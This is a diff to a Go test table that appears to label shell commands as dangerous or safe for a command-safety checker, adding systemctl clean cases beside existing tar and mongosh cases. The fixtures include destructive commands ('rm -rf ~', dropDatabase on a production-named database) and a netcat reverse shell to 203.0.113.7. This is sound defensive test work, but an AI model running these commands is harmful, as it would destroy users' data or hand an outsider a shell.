@@ -470,6 +470,10 @@ var surfaceTable = map[string][]surfaceCase{
 		d(`tar -c -I 'sh -c "rm -rf ~"' -f a.tar .`), d("tar -cf a.tar --use-compress-program='nc 203.0.113.7 4444 -e /bin/sh' ."), d("tar -xf backup.tar --to-command='rm -rf ~/code'"),
 		o("tar -xf data.tar --to-command='wc -c'"), o("tar -cf a.tar --checkpoint=1000 --checkpoint-action=dot src/"), o("tar -cf a.tar --checkpoint-action=exec='echo checkpoint $TAR_CHECKPOINT' src/"),
 		o("tar -I zstd -cf a.tar.zst src/"), o("tar --use-compress-program='zstd -19 -T0' -cf a.tar.zst src/"), o("curl -sL https://x.example.net/a.tgz | tar -xz -C /tmp/x"),
+		// tune11 classes: systemctl(1) clean --what= state, configuration, all (a service's data) or logs; the default (cache and runtime) is made again
+		d("systemctl clean --what cache,state postgresql@16-main"), d("sudo systemctl clean --what=logs nginx"), d("systemctl --user clean --what=configuration syncthing"),
+		d("sudo systemctl clean --what=configuration --what=cache influxdb"),
+		o("sudo systemctl clean grafana-server"), o("sudo systemctl clean --what=cache --what=runtime nginx"), o("sudo systemctl clean --what=state app-preview"), o("systemctl clean --what=fdstore myapp"),
 		// tune8 classes' siblings: a mongosh session switched to a test suite's database, or a test database dropped by name
 		o(`mongosh --quiet --eval 'use("orders_test"); db.dropDatabase()'`), o(`mongosh --eval 'db.getSiblingDB("test_orders").dropDatabase()'`),
 		d(`mongosh --eval 'use("orders"); db.dropDatabase()'`), d(`mongosh --eval 'db.getSiblingDB("orders").dropDatabase()'`),
